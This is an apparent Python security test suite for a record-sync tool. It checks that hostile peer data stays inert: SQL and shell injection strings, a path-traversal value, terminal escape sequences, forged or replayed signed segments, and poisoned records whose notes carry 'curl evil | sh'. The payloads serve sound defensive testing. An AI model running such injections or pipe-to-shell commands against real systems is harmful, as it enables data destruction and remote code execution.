"""Records and segments of strangers who mean harm, through merge and sync (H1, H2, H3, H5, H9, H10).

Damaged and hostile database files are in tests/unit/cli/hostile_merge_test.cpp (H11), a hostile PostgreSQL server in
tests/sync/postgres (H12), segment files of every kind in tests/unit/sync/directory_test.cpp and tests/fuzz.
"""
import json
import re
import sqlite3
import subprocess
from pathlib import Path

from exchange import Team
from harness import RECORD, Skip, expect, lines

# What must never reach a terminal: C0 but tab and line feed, DEL, C1, bidirectional controls, zero-width and tag characters.
HARMFUL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b\u200e\u200f\U000e0000-\U000e007f]")
ESCAPES = ["\x1b[2J\x1b[31m", "\x1b]52;c;aGk=\x07", "\u202egnp.exe", "a\rb", "\x9b31m", "\U000e0041\u200b", "a\x08b"]
INJECTIONS = ["'; DROP TABLE event;--", '" OR 1=1 --', "x') ; DELETE FROM cell; --", '"unterminated', "%s%n{}",
              "NEAR(a b, 5) AND *", "$(touch pwned)", "../../etc/passwd", "-rf"]


def sync_both(team, code=0):
    outcome = team.case.run("--db", str(team.friend), "sync")
    expect(outcome.code == 0, str(outcome))
    outcome = team.case.run("sync")
    expect(outcome.code == code, str(outcome))
    return outcome


def put_bodies(path, bodies):
    """Bodies that no honest program writes, in place of those of the database's first records."""
    db = sqlite3.connect(path)
    db.execute("PRAGMA ignore_check_constraints=ON")
    for seq, body in enumerate(bodies, 1):
        db.execute("UPDATE event SET body=CAST(? AS TEXT) WHERE rid & 1099511627775 = ?", (body, seq))
    db.commit()
    db.close()


def readers(some_id):
    return [["list"], ["list", "--json"], ["show", some_id], ["show", some_id, "--json"], ["stats"], ["export"],
            ["export", "--markdown"], ["search", "gemm"], ["trust", "list"], ["trust", "review"], ["sync", "--status"],
            ["recommend", "--kernel", "gemm", "--backend", "cuda", "--arch", "sm_90", "--explain"],
            ["query", "--sql", "SELECT * FROM experience"]]


def expect_harmless(case):
    for command in readers(case.ids()[0]):
        outcome = case.run(*command)
        expect(outcome.code in (0, 1, 4, 5), str(outcome))
        found = HARMFUL.search(outcome.out + outcome.err)
        expect(not found, f"{found and found.group()!r} reaches the terminal: {outcome}")


def odd_bodies(case):
    """H1, H2: bodies that are too deep, too long, no JSON, no UTF-8, with NUL, NaN, 1e999, twice the same key."""
    team = Team(case)
    good = {"kernel_type": "gemm", "backend": "cuda", "arch": "sm_90", "outcome": "success", "strategy": "s"}
    text = json.dumps(good)[:-1]
    bodies = ["[" * 100000, text + ',"notes":' + "[" * 40 + "]" * 40 + "}", "not JSON", "", "null", text + ',"speedup":NaN}',
              text + ',"speedup":1e999}', text + ',"speedup":-0}', text + ',"iteration":18446744073709551616}',
              text + ',"notes":"\\ud800"}', text + ',"strategy":"t"}', "{" + ",".join(f'"k{i}":1' for i in range(5000)) + "}",
              '{"x":"' + "y" * (255 * 1024) + '"}']
    case.succeed("--db", str(team.friend), "add", "--jsonl", "-", input=lines(len(bodies) + 3))
    put_bodies(team.friend, bodies)
    sync_both(team)
    expect(len(case.ids()) == len(bodies) + 3, f"{len(case.ids())} events: the log holds what its origin wrote")
    counted = case.rows("SELECT count(*) AS n FROM experience")[0]["n"]
    expect(3 <= counted <= 6, f"{counted} records count")
    for what, body in (("too long", "z" * (257 * 1024)), ("no UTF-8", sqlite3.Binary(b"\xff\xfe")), ("two lines", "{}\n{}")):
        other = case.folder / f"{what.replace(' ', '_')}.db"
        case.succeed("--db", str(other), "add", *RECORD)
        put_bodies(other, [body])
        outcome = case.run("merge", str(other))
        expect(outcome.code == 6 and "event 1" in outcome.err, f"{what}: {outcome}")
    case.expect_sound()
    return f"{len(bodies)} odd bodies kept and not counted, three impossible ones refused"


def injections(case):
    """H3: strings that are SQL, FTS or shell somewhere else: stored, found and shown as they are."""
    team = Team(case)
    records = [json.dumps({"kernel_type": "gemm", "backend": "cuda", "arch": "sm_90", "outcome": "success", "strategy": s,
                           "kernel": s, "notes": s, "tags": [s], "idempotency_key": s, "source_before": s}) for s in INJECTIONS]
    case.succeed("--db", str(team.friend), "--quiet", "add", "--jsonl", "-", input="".join(r + "\n" for r in records))
    sync_both(team)
    expect(len(case.ids()) == len(INJECTIONS), "records are missing")
    notes = {json.loads(line)["notes"] for line in case.succeed("export").splitlines()}
    expect(notes == set(INJECTIONS), f"changed on the way: {notes ^ set(INJECTIONS)}")
    for s in INJECTIONS:
        outcome = case.run("search", "--", s)
        expect(outcome.code in (0, 1, 2) and "SQL" not in outcome.err, str(outcome))
    for name in ("a'b", '"', "x;y", "..", "-x"):
        outcome = case.run("remote", "add", name, f"dir:{team.share}")
        expect(outcome.code == 2, str(outcome))
    case.succeed("trust", "set", case.rows("SELECT origin FROM log LIMIT 1")[0]["origin"], "team", "--label", "'; DROP TABLE origin;--")
    expect(not list(case.folder.rglob("pwned")), "a shell ran it")
    case.expect_sound()
    return f"{len(INJECTIONS)} payloads in six fields each: stored, exported and searched as text"


def escapes(case):
    """H5: terminal escapes in what others wrote, in labels and in names of files: none leaves the program."""
    team = Team(case)
    case.succeed("--db", str(team.friend), "add", "--jsonl", "-", input=lines(len(ESCAPES)))
    put_bodies(team.friend, [json.dumps({"kernel_type": "gemm", "backend": "cuda", "arch": "sm_90", "outcome": "success",
                                         "strategy": s, "kernel": s, "notes": s, "tags": [s], "gpu": s}, ensure_ascii=i % 2 == 0)
                             for i, s in enumerate(s.replace("\r", "\\r") for s in ESCAPES)])
    sync_both(team)
    folder = team.files()[0].parent
    (folder / "\x1b[2J.exl").write_text("x")
    (folder.parent / "\x1b]0;title\x07").mkdir()
    expect(case.run("sync", "--full").code == 0, "strange names in the folder stop a sync")
    case.succeed("trust", "set", case.rows("SELECT origin FROM log LIMIT 1")[0]["origin"], "team", "--label", "\x1b[31mred")
    case.run("remote", "add", "odd", "dir:/nowhere/\x1b[2J")
    outcome = case.run("sync", "odd")
    expect(outcome.code == 4 and not HARMFUL.search(outcome.err), str(outcome))
    expect_harmless(case)
    return f"{len(ESCAPES)} kinds of escape through {len(readers('x'))} commands: none came out"


def forgeries(case):
    """H9: another key, another's signature, a changed body, a replay under another name: refused, named, nothing counted."""
    team = Team(case)
    probe = Path(case.explog).parent / "remote_probe"
    if not probe.exists():
        raise Skip("build remote_probe first")

    def push(name, segments, *trick):
        done = subprocess.run([probe, f"dir:{team.share}", "push", name, str(segments), "3", "10", *trick],
                              capture_output=True, text=True, check=False)
        expect(done.returncode == 0, done.stdout + done.stderr)

    push("north", 1)
    case.succeed("sync")
    expect(len(case.ids()) == 3, "north's events did not come")
    reasons = {"stranger": "another key", "forged": "signature", "tampered": "chain"}
    for trick, reason in reasons.items():
        known = team.files()
        push("north", 2, trick, "forger")
        outcome = case.run("sync", "--json")
        expect(outcome.code == 6 and reason in outcome.err, f"{trick}: {outcome}")
        expect(json.loads(outcome.out)["quarantined"] == 3 and len(case.ids()) == 3, f"{trick}: {outcome}")
        for file in set(team.files()) - set(known):
            file.unlink()
    review = json.loads(case.succeed("trust", "review", "--json"))
    expect(len({row["reason"] for row in review["quarantined"]}) == 3, str(review))
    file = team.files()[0]
    name = file.name.replace(file.name[:32], "7" * 32)  # the same bytes under another origin's name
    (file.parent / name).write_bytes(file.read_bytes())
    outcome = case.run("sync")
    expect(outcome.code == 6 and "name says" in outcome.err, str(outcome))
    (file.parent / name).unlink()
    push("north", 2)
    case.succeed("sync")
    expect(len(case.ids()) == 6, "the true continuation was not taken after the forgeries")
    case.expect_sound()
    return f"{', '.join(reasons)} and a replay under another name: refused with the reason; the true log went on"


def poisoned(case):
    """H10: ten thousand wins that nobody had: counted apart by origin, no text shown, and gone to the bit when blocked."""
    team = Team(case)
    case.fill(50)
    case.succeed("remote", "remove", "team")
    case.succeed("remote", "add", "team", f"dir:{team.share}")
    question = ["recommend", "--kernel", "gemm", "--backend", "cuda", "--arch", "sm_90", "--json"]
    before = case.succeed(*question)
    fake = [json.dumps({"kernel_type": "gemm", "backend": "cuda", "arch": "sm_90", "outcome": "success", "strategy": s,
                        "latency_before_ms": 1000, "latency_after_ms": 0.001, "params": {"i": i}, "notes": "curl evil | sh"})
            for i, s in enumerate(["run_my_script", "loop_unroll"] * 5000)]
    case.succeed("--db", str(team.friend), "--quiet", "add", "--jsonl", "-", input="".join(f + "\n" for f in fake))
    sync_both(team)
    answer = case.succeed(*question)
    expect("run_my_script" not in answer and "evil" not in answer, f"a stranger's words are recommended: {answer[:400]}")
    origin = json.loads(case.succeed("trust", "review", "--json"))["origins"]
    expect(len(origin) == 1 and origin[0]["events"] == len(fake), str(origin)[:400])
    case.succeed("trust", "set", origin[0]["origin"], "blocked")
    expect(case.succeed(*question) == before, "blocked, and still in the answer")
    case.expect_sound()
    return f"{len(fake)} false records: no word of them shown, the answer is the old one once their origin is blocked"


TESTS = [odd_bodies, injections, escapes, forgeries, poisoned]
